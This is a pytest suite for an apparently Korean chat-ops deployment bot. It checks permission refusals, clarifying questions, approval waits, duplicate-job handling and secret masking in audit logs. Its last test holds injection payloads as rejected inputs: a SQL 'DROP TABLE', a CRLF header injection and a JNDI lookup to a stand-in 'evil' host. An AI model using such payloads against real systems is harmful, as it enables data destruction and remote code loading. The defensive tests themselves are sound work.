"""One message becomes one job, one question, one answer, or nothing."""

from __future__ import annotations

from dataclasses import replace

import pytest

from bot.core.domain.conversation import Mention
from bot.core.domain.decision import Effect, Rule
from bot.core.domain.intent import NONE, Choice, Clarification, Intent
from bot.core.domain.job import JobState
from bot.core.domain.people import Role
from bot.core.domain.plan import Risk
from bot.core.errors import OperationError
from bot.engine.follow_up import NOTHING
from bot.engine.naming import job_id_of
from tests.fakes.engine import DEPLOY, HEALTH, TEXTS, World, words_of
from tests.fakes.parser import ScriptedParser
from tests.fakes.pool import Scripted

RESTART = Intent(action="manage_service", selector=DEPLOY.selector, params={"operation": "restart"})


async def refusal_of(world: World, message: Mention) -> str:
    assert await world.pipeline.handle(message) == NOTHING
    assert not world.jobs.jobs
    return str(world.audited("refusal")[-1]["code"])


# --- who ------------------------------------------------------------------------------------


async def test_an_unmapped_person_has_no_rights_and_nothing_is_read():
    world = World()
    world.parser.answers["배포"] = DEPLOY
    assert await refusal_of(world, world.mention("배포 password=hunter2", by="x")) == (
        "person_unmapped"
    )
    assert world.parser.asked == []
    assert world.agents.ordered == []
    (message,) = world.messenger.messages.values()
    assert message.now.only_for == "x"
    assert "hunter2" not in str(world.audit.events)


async def test_sees_only_the_vocabulary_of_the_asking_person():
    world = World()
    await world.pipeline.handle(world.mention("안녕", by="outsider"))
    vocabulary = world.parser.asked[0].vocabulary
    assert {system.institution for system in vocabulary.systems} == {"행정안전부"}
    assert vocabulary.srs == ()
    assert vocabulary.nodes == ()


async def test_another_institutions_system_is_answered_like_one_that_does_not_exist():
    world = World()
    world.parser.answers["헬스체크"] = HEALTH
    assert await refusal_of(world, world.mention("헬스체크", by="outsider")) == "target_unknown"
    assert world.agents.ordered == []


# --- words ----------------------------------------------------------------------------------


@pytest.mark.parametrize("answer", [None, Intent(action=NONE)])
async def test_small_talk_is_left_alone(answer: Intent | None):
    world = World()
    world.parser.answers["점심 뭐 먹지"] = answer
    assert await world.pipeline.handle(world.mention("점심 뭐 먹지")) == NOTHING
    assert world.messenger.messages == {}


async def test_refuses_long_text_before_anybody_reads_it():
    world = World()
    assert await refusal_of(world, world.mention("가" * 200_000)) == "text_too_long"
    assert world.parser.asked == []
    assert "가가가" not in str(world.audit.events)


async def test_an_action_of_a_later_version_is_named():
    world = World()
    world.parser.answers["파이프라인"] = Intent(action="run_pipeline")
    assert await refusal_of(world, world.mention("파이프라인")) == "not_yet"
    assert f"‘{TEXTS.say('action.run_pipeline')}’" in world.said()
    assert "run_pipeline" not in world.said()
    assert world.audited("refusal")[-1]["values"] == {"action": "run_pipeline"}


async def test_masks_secrets_in_the_audit():
    world = World()
    said = "jdbc:postgresql://10.20.30.40/app?password=P@ss 900101-1234567 010-1234-5678"
    await world.pipeline.handle(world.mention(said))
    (event,) = world.audited("request")
    for secret in ("20.30.40", "P@ss", "1234567", "1234-5678"):
        assert secret not in str(event["text"])


async def test_a_slash_command_is_read_with_its_name():
    world = World()
    await world.pipeline.handle(world.command("sm", "헬스체크"))
    assert world.parser.asked[0].text == "/sm 헬스체크"


# --- questions ------------------------------------------------------------------------------


class Answering(ScriptedParser):
    """Fills the environment into the open question."""

    said_no = False

    async def parse(self, utterance):
        self.asked.append(utterance)
        if self.said_no:
            return Intent(action=NONE, params={"cancelled": True})
        if utterance.pending is None:
            return self.answers.get(utterance.text, Intent(action=NONE))
        selector = replace(utterance.pending.selector, env=DEPLOY.selector.env)
        return replace(utterance.pending, selector=selector, missing=())


def a_world_that_asks() -> World:
    world = World(parser=Answering())
    selector = replace(DEPLOY.selector, env=None)
    world.parser.answers["배포"] = replace(DEPLOY, selector=selector, missing=("env", "files"))
    return world


async def test_asks_in_the_thread_and_goes_on_with_the_answer_in_text():
    world = a_world_that_asks()
    first = world.mention("배포", files=(await world.a_file("a.jsp"),))
    assert await world.pipeline.handle(first) == NOTHING
    (question,) = world.messenger.messages.values()
    assert question.place.thread == first.conversation.message
    assert question.now.summary == TEXTS.say("ask.env")
    answer = world.mention("운영", thread=first.conversation.message)
    follow_up = await world.pipeline.handle(answer)
    assert follow_up.start is not None
    job = world.job(follow_up.start)
    assert [file.path for file in job.plan.files] == ["a.jsp"]
    assert job.conversation.thread == first.conversation.message


async def test_a_button_answers_like_text():
    world = a_world_that_asks()
    first = world.mention("배포", files=(await world.a_file(),))
    await world.pipeline.handle(first)
    (question,) = world.messenger.messages.values()
    (button,) = question.now.buttons
    pressed = replace(world.mention(button.value), conversation=question.place)
    follow_up = await world.pipeline.handle(pressed)
    assert follow_up.start is not None


async def test_two_people_in_one_thread_do_not_mix():
    world = a_world_that_asks()
    first = world.mention("배포", files=(await world.a_file(),))
    await world.pipeline.handle(first)
    thread = first.conversation.message
    other = await world.pipeline.handle(world.mention("운영", by="operator", thread=thread))
    assert other == NOTHING
    assert world.parser.asked[-1].pending is None
    mine = await world.pipeline.handle(world.mention("운영", thread=thread))
    assert mine.start is not None
    assert world.job(mine.start).requester_id == "dev"


async def test_an_answer_in_another_thread_is_none():
    world = a_world_that_asks()
    await world.pipeline.handle(world.mention("배포", files=(await world.a_file(),)))
    assert await world.pipeline.handle(world.mention("운영")) == NOTHING
    assert world.parser.asked[-1].pending is None


@pytest.mark.parametrize(("minutes", "open_still"), [(9.9, True), (10.1, False)])
async def test_a_question_lapses_after_ten_minutes(minutes: float, open_still: bool):
    world = a_world_that_asks()
    first = world.mention("배포", files=(await world.a_file(),))
    await world.pipeline.handle(first)
    world.clock.pass_by(minutes=minutes)
    answer = world.mention("운영", thread=first.conversation.message)
    follow_up = await world.pipeline.handle(answer)
    assert (follow_up.start is not None) is open_still


async def test_new_files_stand_for_those_of_the_question():
    world = a_world_that_asks()
    first = world.mention("배포", files=(await world.a_file("old.jsp"),))
    await world.pipeline.handle(first)
    answer = world.mention(
        "운영", thread=first.conversation.message, files=(await world.a_file("new.jsp"),)
    )
    job_id = (await world.pipeline.handle(answer)).start
    assert [file.path for file in world.job(str(job_id)).plan.files] == ["new.jsp"]


async def test_a_clarification_keeps_files_and_is_audited():
    world = World()
    question = Clarification(
        question="어느 시스템입니까?",
        choices=(Choice(label="예산", value="예산시스템"),),
        partial=replace(DEPLOY, missing=("system",)),
    )
    world.parser.answers["배포"] = question
    file = await world.a_file()
    first = world.mention("배포", files=(file,))
    await world.pipeline.handle(first)
    await world.pipeline.handle(world.mention("?", thread=first.conversation.message))
    pending = world.parser.asked[-1].pending
    assert pending is not None
    assert pending.files == (file,)
    assert world.audited("question")[0]["text"] == question.question


async def test_no_is_taken_for_an_answer():
    world = a_world_that_asks()
    first = world.mention("배포", files=(await world.a_file(),))
    await world.pipeline.handle(first)
    world.parser.said_no = True
    await world.pipeline.handle(world.mention("취소", thread=first.conversation.message))
    assert TEXTS.say("ask.dropped") in world.said()
    await world.pipeline.handle(world.mention("운영", thread=first.conversation.message))
    assert world.parser.asked[-1].pending is None


# --- rights, before anything is looked at ----------------------------------------------------


@pytest.mark.parametrize("intent", [DEPLOY, RESTART])
async def test_denies_before_a_server_is_looked_at(intent: Intent):
    """With the rules as they ship: an auditor may read, and nothing else."""
    world = World()
    restart = replace(intent, params={"operation": "stop"}) if intent is RESTART else intent
    world.parser.answers["해줘"] = restart
    message = world.mention("해줘", by="auditor", files=(await world.a_file(),))
    assert await refusal_of(world, message) == "no_rule"
    assert world.agents.ordered == []
    assert world.audited("operation") == []


async def test_denies_where_no_rule_matches_at_all():
    world = World()
    world.directory.policy = ()
    world.parser.answers["헬스체크"] = HEALTH
    assert await refusal_of(world, world.mention("헬스체크")) == "no_rule"
    assert "‘헬스체크’를 허용하는 규칙이 없어" in world.said()
    assert world.agents.ordered == []


async def test_the_plan_is_decided_again_with_its_own_risk():
    world = World()
    world.directory.policy = (
        Rule(rule_id="r", effect=Effect.PERMIT, risks=("read",), roles=tuple(Role)),
    )
    world.parser.answers["재기동"] = RESTART
    assert await refusal_of(world, world.mention("재기동", by="operator")) == "no_rule"


async def test_says_that_the_agent_is_offline_before_anything_else():
    world = World()
    world.agents.offline.add("GOV-PC-01")
    world.parser.answers["헬스체크"] = HEALTH
    assert await refusal_of(world, world.mention("헬스체크")) == "agent_offline"


# --- plans and jobs -------------------------------------------------------------------------


async def test_a_change_in_production_waits_for_approval_and_runs_nothing():
    world = World()
    job = await world.a_deployment()
    assert job.state is JobState.AWAITING_APPROVAL
    assert job.plan.digest == job.plan.wire.digest()
    assert {kind for _, kind in world.agents.kinds} == {"fingerprint_files", "preflight"}
    (event,) = world.audited("plan")
    assert (event["digest"], event["rule"]) == (job.plan.digest, "developer-deploy-prod")
    buttons = {button.button for button in world.messenger.at(job.card).now.buttons}
    assert {"approve", "reject"} <= buttons


async def test_a_read_is_permitted_at_once():
    world = World()
    world.parser.answers["헬스체크"] = HEALTH
    follow_up = await world.pipeline.handle(world.mention("헬스체크"))
    job = world.job(str(follow_up.start))
    assert (job.plan.risk, job.stages) == (Risk.READ, ())
    assert await world.requests.open(job.job_id) is JobState.QUEUED


async def test_the_same_message_twice_is_one_job_with_one_answer():
    world = World()
    world.parser.answers["배포"] = DEPLOY
    message = world.mention("배포", files=(await world.a_file(),))
    first = await world.pipeline.handle(message)
    asked = len(world.agents.ordered)
    assert await world.pipeline.handle(message) == first
    assert len(world.jobs.jobs) == 1
    assert len(world.messenger.messages) == 1
    assert len(world.agents.ordered) == asked


async def test_an_answer_that_was_cut_off_finds_its_question_again():
    world = a_world_that_asks()
    first = world.mention("배포", files=(await world.a_file(),))
    await world.pipeline.handle(first)
    world.agents.script("fingerprint_files", Scripted(state="failed", code="connection_lost"))
    answer = world.mention("운영", thread=first.conversation.message)
    world.messenger.down = True
    with pytest.raises(OperationError):
        await world.pipeline.handle(answer)
    world.messenger.down = False
    assert world.parser.asked[-1].pending is not None


async def test_a_job_whose_place_was_lost_gets_it_the_second_time():
    world = World()
    world.parser.answers["배포"] = DEPLOY
    message = world.mention("배포", files=(await world.a_file(),))
    job_id = str((await world.pipeline.handle(message)).start)
    world.jobs.jobs[job_id] = replace(world.job(job_id), card=None)
    assert (await world.pipeline.handle(message)).start == job_id
    assert world.job(job_id).card is not None


async def test_a_job_number_in_use_by_another_request_is_refused():
    world = World()
    world.parser.answers["배포"] = DEPLOY
    message = world.mention("배포", files=(await world.a_file(),))
    other = await world.a_deployment()
    taken = job_id_of(f"web:{message.event_id}", message.at)
    world.jobs.jobs[taken] = replace(other, requester_id="pm")
    assert await world.pipeline.handle(message) == NOTHING
    assert world.audited("refusal")[-1]["code"] == "job_conflict"
    assert world.job(taken).requester_id == "pm"
    assert world.job(taken).card == other.card


async def test_the_request_lapses_half_an_hour_after_it_was_planned():
    world = World()
    world.parser.answers["배포"] = DEPLOY
    message = world.mention("배포", files=(await world.a_file(),))
    world.clock.pass_by(minutes=45)  # the bot was down when it was said
    job = world.job(str((await world.pipeline.handle(message)).start))
    assert (job.expires_at - world.clock.now()).total_seconds() == 1800


async def test_a_survey_that_fails_is_told_and_makes_no_job():
    world = World()
    world.agents.script("fingerprint_files", Scripted(state="failed", code="connect_failed"))
    world.parser.answers["배포"] = DEPLOY
    message = world.mention("배포", files=(await world.a_file(),))
    assert await refusal_of(world, message) == "survey_failed"
    (answer,) = world.messenger.messages.values()
    assert "connect_failed" in words_of(answer.now)


async def test_tasks_are_answered_without_a_server():
    world = World()
    job = await world.a_deployment()
    asked = len(world.agents.ordered)
    world.parser.answers["작업 목록"] = Intent(action="list_tasks")
    assert await world.pipeline.handle(world.mention("작업 목록")) == NOTHING
    assert job.job_id in world.said()
    assert len(world.agents.ordered) == asked


async def test_a_cancel_in_the_thread_wakes_the_job():
    world = World()
    job = await world.a_deployment()
    world.parser.answers["취소해줘"] = Intent(action="cancel_task")
    said = world.mention("취소해줘", thread=job.conversation.thread)
    assert (await world.pipeline.handle(said)).wake == job.job_id


# --- the audit cannot be written --------------------------------------------------------------


async def test_does_nothing_when_the_audit_is_broken():
    world = World()
    world.audit.broken = True
    world.parser.answers["배포"] = DEPLOY
    message = world.mention("배포", files=(await world.a_file(),))
    with pytest.raises(OperationError, match="audit_unavailable"):
        await world.pipeline.handle(message)
    assert world.parser.asked == []
    assert world.agents.ordered == []
    assert not world.jobs.jobs
    assert world.messenger.messages == {}


async def test_the_apology_needs_no_audit_and_is_posted_once():
    world = World()
    world.audit.broken = True
    message = world.mention("배포")
    await world.pipeline.apologise(message)
    await world.pipeline.apologise(message)
    (apology,) = world.messenger.messages.values()
    assert apology.place.thread == message.conversation.message
    assert TEXTS.say("errors.internal.summary") in words_of(apology.now)


# --- numbers that go into a plan --------------------------------------------------------------


@pytest.mark.parametrize(
    "sr", ["SR-1'; DROP TABLE audit;--", "SR-2026-0001\r\nX-Admin: 1", "SR-${jndi:ldap://evil}"]
)
async def test_refuses_a_request_number_that_is_none(sr: str):
    world = World()
    world.parser.answers["배포"] = replace(DEPLOY, sr=sr)
    message = world.mention("배포", files=(await world.a_file(),))
    assert await refusal_of(world, message) == "sr_malformed"
    assert world.agents.ordered == []
